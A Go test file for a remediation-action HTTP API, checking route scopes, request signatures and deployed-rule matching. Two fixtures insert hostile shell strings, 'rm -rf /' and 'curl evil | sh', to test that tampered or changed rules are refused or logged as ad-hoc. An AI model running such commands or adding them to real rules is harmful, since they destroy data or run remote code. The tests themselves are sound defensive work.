package httpapi

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/alexis-ops/alexis/shared/api"
	"github.com/alexis-ops/alexis/shared/auth"
	"github.com/alexis-ops/alexis/shared/auth/authtest"
)

// Every route × every scope: a route added without a scope, or with
// another one than this table says, fails.
func TestScopeMatrix(t *testing.T) {
	a := newAPIWith(t, authtest.TokenFile(), nil)
	authtest.Matrix(t, a.e, map[string]auth.Scope{
		"POST /v1/action":                 auth.ScopeAct,
		"GET /v1/executions":              auth.ScopeRead,
		"GET /v1/executions/:id":          auth.ScopeRead,
		"POST /v1/decisions":              auth.ScopeRecord,
		"GET /v1/decisions":               auth.ScopeRead,
		"GET /v1/decisions/:id":           auth.ScopeRead,
		"GET /v1/rules":                   auth.ScopeRead,
		"POST /v1/replay":                 auth.ScopeRead,
		"POST /v1/rules/:name/resume":     auth.ScopeAdmin,
		"POST /v1/executions/:id/approve": auth.ScopeApprove,
		"POST /v1/executions/:id/deny":    auth.ScopeApprove,
		"GET /metrics":                    auth.ScopeMetrics,
	})
}

const (
	classifierToken = "classifier-out-token-0123456789"
	readerToken     = "reader-token-0123456789"
	adhocToken      = "alice-adhoc-token-0123456789"
	signingKey      = "0123456789abcdef0123456789abcdef-key"
)

func signedAt(t *testing.T, key string, body string, at time.Time) string {
	t.Helper()
	k, err := auth.NewKey([]byte(key))
	if err != nil {
		t.Fatal(err)
	}
	return k.Sign([]byte(body), at)
}

// withRequestedBy adds requested_by to the action fixture.
func withRequestedBy(body, by string) string {
	return strings.Replace(body, `"rule": {`, `"requested_by": "`+by+`", "rule": {`, 1)
}

func TestProvenance(t *testing.T) {
	valid := fixture(t, "action.json")
	now := time.Now()
	fromPoller := withRequestedBy(valid, "poller")
	for _, tc := range []struct {
		name      string
		token     string
		body      string
		sig       string // X-Alexis-Signature
		noKey     bool   // the action handler has no signing_key_file
		status    int
		missing   string // missing_scope of a 403
		errSubstr string
		// what is stored on success
		client, requestedBy string
		adhoc               bool
	}{
		{name: "classifier token, unsigned: its own rule needs adhoc", token: classifierToken, body: valid,
			status: http.StatusForbidden, missing: "adhoc", errSubstr: "not signed by the classifier"},
		{name: "classifier token, signed", token: classifierToken, body: fromPoller,
			sig: signedAt(t, signingKey, fromPoller, now), status: http.StatusAccepted,
			client: "classifier", requestedBy: "poller"},
		{name: "signed without requested_by", token: classifierToken, body: valid,
			sig: signedAt(t, signingKey, valid, now), status: http.StatusAccepted, client: "classifier"},
		{name: "tampered body", token: classifierToken, body: strings.Replace(fromPoller, "restart duplicator", "rm -rf /", 1),
			sig: signedAt(t, signingKey, fromPoller, now), status: http.StatusUnauthorized, errSubstr: "does not match"},
		{name: "tampered requested_by", token: classifierToken, body: withRequestedBy(valid, "admin"),
			sig: signedAt(t, signingKey, fromPoller, now), status: http.StatusUnauthorized, errSubstr: "does not match"},
		{name: "forged with another key", token: classifierToken, body: fromPoller,
			sig: signedAt(t, "another-key-0123456789abcdef0123456", fromPoller, now), status: http.StatusUnauthorized,
			errSubstr: "does not match"},
		{name: "stale signature (replay)", token: classifierToken, body: fromPoller,
			sig: signedAt(t, signingKey, fromPoller, now.Add(-10*time.Minute)), status: http.StatusUnauthorized,
			errSubstr: "outside the accepted window"},
		{name: "malformed signature", token: adhocToken, body: valid, sig: "v1=00",
			status: http.StatusUnauthorized, errSubstr: "malformed"},
		{name: "signed, but no key to verify with", token: classifierToken, body: fromPoller, noKey: true,
			sig: signedAt(t, signingKey, fromPoller, now), status: http.StatusUnauthorized, errSubstr: "no signing_key_file"},
		{name: "read-only token cannot post", token: readerToken, body: fromPoller,
			sig: signedAt(t, signingKey, fromPoller, now), status: http.StatusForbidden, missing: "act"},
		{name: "adhoc token, unsigned: runs as ad-hoc", token: adhocToken, body: valid, status: http.StatusAccepted,
			client: "alice", requestedBy: "alice", adhoc: true},
		{name: "adhoc token, signed: verified", token: adhocToken, body: fromPoller,
			sig: signedAt(t, signingKey, fromPoller, now), status: http.StatusAccepted, client: "alice", requestedBy: "poller"},
		{name: "unsigned requested_by is refused", token: adhocToken, body: fromPoller, status: http.StatusBadRequest,
			errSubstr: "requested_by: set only by the classifier"},
		{name: "adhoc token without a key", token: adhocToken, body: valid, noKey: true, status: http.StatusAccepted,
			client: "alice", requestedBy: "alice", adhoc: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := newAPIWith(t, "classifier:"+classifierToken+"\nreader:"+readerToken+" scopes=read\nalice:"+adhocToken+" scopes=adhoc\n",
				func(h *Handler) {
					if !tc.noKey {
						h.Key, _ = auth.NewKey([]byte(signingKey))
					}
				})
			req := httpRequest(http.MethodPost, "/v1/action", tc.token, tc.body)
			if tc.sig != "" {
				req.Header.Set(auth.SignatureHeader, tc.sig)
			}
			code, body := a.serve(req)
			if code != tc.status {
				t.Fatalf("status = %d, want %d: %s", code, tc.status, body)
			}
			if tc.status >= 400 {
				var ae api.Error
				if err := json.Unmarshal(body, &ae); err != nil || ae.MissingScope != tc.missing || !strings.Contains(ae.Error, tc.errSubstr) {
					t.Fatalf("answer %s, want missing_scope %q and error with %q", body, tc.missing, tc.errSubstr)
				}
				if n, _ := a.st.CountQueued(context.Background()); n != 0 {
					t.Fatalf("%d executions stored by a refused request", n)
				}
				return
			}
			var acc api.ActionAccepted
			if err := json.Unmarshal(body, &acc); err != nil {
				t.Fatal(err)
			}
			// The history API shows who asked and whether it was ad-hoc.
			code, body = a.do(http.MethodGet, "/v1/executions/"+acc.ExecutionID, readerToken, "")
			var x api.Execution
			if err := json.Unmarshal(body, &x); code != http.StatusOK || err != nil {
				t.Fatalf("get: %d %s", code, body)
			}
			if x.Client != tc.client || x.RequestedBy != tc.requestedBy || x.AdHoc != tc.adhoc {
				t.Fatalf("execution client=%q requested_by=%q adhoc=%t, want %q %q %t",
					x.Client, x.RequestedBy, x.AdHoc, tc.client, tc.requestedBy, tc.adhoc)
			}
			code, body = a.do(http.MethodGet, "/v1/executions?alert_id="+x.AlertID, readerToken, "")
			var list api.ExecutionList
			if err := json.Unmarshal(body, &list); code != http.StatusOK || err != nil || len(list.Executions) != 1 ||
				list.Executions[0].RequestedBy != tc.requestedBy || list.Executions[0].AdHoc != tc.adhoc {
				t.Fatalf("list: %d %s", code, body)
			}
			logs := a.logs.String()
			if tc.adhoc != strings.Contains(logs, "event=adhoc_action") {
				t.Fatalf("adhoc %t, logs:\n%s", tc.adhoc, logs)
			}
			if tc.adhoc && !strings.Contains(logs, "client="+tc.client) {
				t.Fatalf("adhoc_action without client=%s:\n%s", tc.client, logs)
			}
			if tc.requestedBy != "" && !strings.Contains(logs, "requested_by="+tc.requestedBy) {
				t.Fatalf("logs lack requested_by=%s:\n%s", tc.requestedBy, logs)
			}
			if strings.Contains(logs, signingKey) || strings.Contains(logs, tc.token) {
				t.Fatal("a key or token reached the logs")
			}
		})
	}
}

// With rules_dir, an unsigned rule identical to the deployed one of that
// name is verified (scope act is enough); a changed one is not.
func TestDeployedRuleVerified(t *testing.T) {
	valid := fixture(t, "action.json")
	var fields map[string]json.RawMessage
	if err := json.Unmarshal([]byte(valid), &fields); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	// The file as an author writes it: indented, keys in another order.
	var pretty bytes.Buffer
	json.Indent(&pretty, fields["rule"], "", "  ")
	if err := os.WriteFile(filepath.Join(dir, "day_duplicator_gc_restart.json"), pretty.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "broken.json"), []byte(`{"rule_name": "day_duplicator_gc_restart"`), 0o644)
	changed := strings.Replace(valid, "sudo systemctl restart duplicator", "sudo systemctl restart duplicator; curl evil | sh", 1)
	// A deployed rule that is disabled verifies nothing: the classifier
	// would never forward it.
	disabledDir := t.TempDir()
	disabled := strings.Replace(valid, `"enabled": "true"`, `"enabled": "false"`, 1)
	if err := json.Unmarshal([]byte(disabled), &fields); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(disabledDir, "day_duplicator_gc_restart.json"), fields["rule"], 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, token, body string
		dir               string
		status            int
		adhoc             bool
	}{
		{"deployed rule, act token", classifierToken, valid, dir, http.StatusAccepted, false},
		{"changed rule, act token", classifierToken, changed, dir, http.StatusForbidden, false},
		{"changed rule, adhoc token", adhocToken, changed, dir, http.StatusAccepted, true},
		{"no rules_dir", classifierToken, valid, "", http.StatusForbidden, false},
		{"rules_dir gone", classifierToken, valid, filepath.Join(dir, "missing"), http.StatusForbidden, false},
		{"disabled deployed rule, act token", classifierToken, disabled, disabledDir, http.StatusForbidden, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := newAPIWith(t, "classifier:"+classifierToken+"\nalice:"+adhocToken+" scopes=adhoc\n", func(h *Handler) {
				if tc.dir != "" {
					h.Deployed = &DeployedRules{Dir: tc.dir}
				}
			})
			code, body := a.do(http.MethodPost, "/v1/action", tc.token, tc.body)
			if code != tc.status {
				t.Fatalf("status %d, want %d: %s", code, tc.status, body)
			}
			if code != http.StatusAccepted {
				return
			}
			var acc api.ActionAccepted
			json.Unmarshal(body, &acc)
			x, err := a.st.Get(context.Background(), acc.ExecutionID)
			if err != nil || x.AdHoc != tc.adhoc {
				t.Fatalf("stored %+v %v, want adhoc %t", x, err, tc.adhoc)
			}
		})
	}
}
